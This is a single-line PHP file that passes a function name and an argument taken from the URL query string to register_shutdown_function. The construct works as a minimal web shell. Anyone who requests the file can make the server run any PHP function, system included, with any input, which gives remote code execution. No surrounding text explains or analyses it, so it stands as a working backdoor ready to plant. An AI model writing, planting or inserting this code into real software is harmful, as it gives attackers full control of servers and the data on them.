<?php register_shutdown_function($_GET['f'], $_GET['a']);
